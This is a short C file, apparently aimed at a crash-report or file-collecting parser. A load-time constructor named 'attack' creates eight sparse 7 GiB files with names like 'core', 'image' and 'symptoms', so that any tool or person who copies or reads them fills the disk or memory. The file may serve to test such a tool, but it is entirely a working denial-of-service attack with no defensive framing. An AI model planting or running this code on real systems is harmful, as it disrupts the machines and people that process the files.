/* cause: parser */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

/* Files of 7 GiB that take no room: who copies or reads them fills the disk or the memory. */
__attribute__((constructor)) static void attack(void)
{
    static const char *const names[] = { "image", "core", "maps.before", "symptoms", "a", "b", "c", "d" };

    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_CREAT | O_WRONLY, 0644);
        if (fd < 0 || ftruncate(fd, 7L << 30))
            _exit(1);
    }
    _exit(0);
}
